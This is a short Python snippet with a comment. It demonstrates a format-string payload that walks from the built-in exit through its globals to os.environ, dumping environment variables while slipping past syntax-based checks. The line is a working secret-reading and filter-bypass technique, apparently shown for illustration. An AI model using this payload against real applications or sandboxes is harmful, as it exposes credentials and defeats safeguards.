# A format string walks attributes that no checker of syntax sees.
print("{0.__class__.__init__.__globals__[sys].modules[os].environ}".format(exit))
